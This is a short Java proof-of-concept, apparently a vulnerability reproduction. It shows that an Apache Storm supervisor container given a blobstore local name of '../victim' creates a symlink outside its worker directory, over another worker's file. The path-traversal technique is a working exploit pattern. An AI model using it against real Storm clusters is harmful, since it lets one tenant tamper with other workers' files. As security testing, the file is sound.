package org.apache.storm.daemon.supervisor;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.concurrent.Callable;
import org.apache.storm.container.DefaultResourceIsolationManager;
import org.apache.storm.generated.LocalAssignment;
import org.apache.storm.generated.ProfileRequest;
import org.apache.storm.metric.StormMetricsRegistry;
import org.apache.storm.utils.ConfigUtils;

/**
 * A worker's container links a blob whose local name leads out of the worker's directory; returns whether a link is in the place of what
 * was there. It is in upstream's package, since the methods of a container are not public.
 */
public final class LinkAttack implements Callable<Boolean> {

    private static final String TOPOLOGY = "topology-1";
    private static final String WORKER = "worker-1";

    @Override
    public Boolean call() throws Exception {
        Path local = Files.createTempDirectory("supervisor");
        Map<String, Object> conf = Map.of("storm.local.dir", local.toString(), "storm.resource.isolation.plugin.enable", false);
        Path worker = Files.createDirectories(Path.of(ConfigUtils.workerRoot(conf, WORKER)));
        Path topology = Files.createDirectories(Path.of(ConfigUtils.supervisorStormDistRoot(conf, TOPOLOGY)));
        Files.writeString(topology.resolveSibling("victim"), "of mallory");
        Path victim = Files.writeString(worker.resolveSibling("victim"), "of another worker");
        new LinkingContainer(conf).createBlobstoreLinks();
        return Files.isSymbolicLink(victim);
    }

    private static final class LinkingContainer extends Container {
        LinkingContainer(Map<String, Object> conf) throws Exception {
            super(ContainerType.LAUNCH, conf, "supervisor", 6699, 6700, new LocalAssignment(TOPOLOGY, List.of()),
                new DefaultResourceIsolationManager(), WORKER, Map.of("topology.blobstore.map",
                    Map.of("blob", Map.of("localname", "../victim"))), new AdvancedFSOps(conf) {
                        @Override
                        public boolean doRequiredTopoFilesExist(Map<String, Object> any, String topologyId) {
                            return true;
                        }
                    }, new StormMetricsRegistry(), new ContainerMemoryTracker(new StormMetricsRegistry()));
        }

        @Override
        public void launch() {
            throw new UnsupportedOperationException("It only links.");
        }

        @Override
        public void relaunch() {
            throw new UnsupportedOperationException("It only links.");
        }

        @Override
        public boolean didMainProcessExit() {
            return false;
        }

        @Override
        public boolean runProfiling(ProfileRequest request, boolean stop) {
            return false;
        }
    }
}
